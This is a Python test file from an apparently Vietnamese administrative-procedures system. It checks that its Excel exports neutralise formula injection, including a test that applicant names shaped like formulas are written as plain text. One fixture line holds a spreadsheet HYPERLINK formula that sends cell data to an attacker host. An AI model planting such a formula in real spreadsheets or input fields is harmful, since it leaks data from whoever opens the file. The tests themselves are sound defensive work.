"""No spreadsheet CCHC produces runs what a user typed."""

import ast
from dataclasses import replace
from datetime import date, datetime, timedelta
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from cchc.core.calendar import VN_TZ
from cchc.core.xlsx import FORMULA_TRIGGERS, xlsx_bytes
from cchc.dossiers.documents import tracking_book_xlsx
from cchc.dossiers.services import dossier_submit_online
from cchc.dossiers.tests.helpers import CITIZEN, act, documents_for, frozen, user
from cchc.procedures.models import Procedure

EVIL = '=HYPERLINK("https://attacker.example/?leak="&A1,"Bấm vào đây")'


def _written(value):
    workbook = Workbook()
    workbook.active.cell(row=1, column=1, value=value)
    return load_workbook(BytesIO(xlsx_bytes(workbook))).active["A1"]


@given(st.sampled_from(FORMULA_TRIGGERS), st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=30))
def test_text_starting_with_a_formula_trigger_is_written_as_text(trigger, rest):
    cell = _written(trigger + rest)
    assert cell.data_type == "s"
    assert cell.value.replace("\r\n", "\n").replace("\r", "\n") == (trigger + rest).replace("\r\n", "\n").replace(
        "\r", "\n"
    )


def test_numbers_stay_numbers():
    assert _written(-125000).value == -125000 and _written(-125000).data_type == "n"


@pytest.mark.django_db
def test_an_applicant_named_like_a_formula_is_text_in_the_tracking_book(demo):
    procedure = Procedure.objects.get(code="1.003683")  # the fee is due with the result
    monday = datetime(2026, 3, 2, 8, 30, tzinfo=VN_TZ)
    with frozen(monday - timedelta(minutes=30)):
        dossier, _created = dossier_submit_online(
            user=user("congdan"),
            procedure=procedure,
            applicant=replace(CITIZEN, name=EVIL),
            return_method="online",
            documents=documents_for(procedure),
            idempotency_key="",
        )
    with frozen(monday):
        act(dossier, "motcua", "receive")
    data = tracking_book_xlsx(agency=demo, date_from=date(2026, 3, 2), date_to=date(2026, 3, 2))
    cells = [cell for row in load_workbook(BytesIO(data)).active.iter_rows() for cell in row]
    evil = [cell for cell in cells if cell.value == EVIL]
    assert evil and all(cell.data_type == "s" for cell in evil)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_every_module_that_builds_a_workbook_saves_it_through_the_helper():
    """A new export that calls `workbook.save` itself would skip the neutralising step."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "Workbook" not in source:
            continue
        for node in ast.walk(ast.parse(source)):
            saves = isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "save"
            if saves and isinstance(node.func.value, ast.Name) and "book" in node.func.value.id:
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []
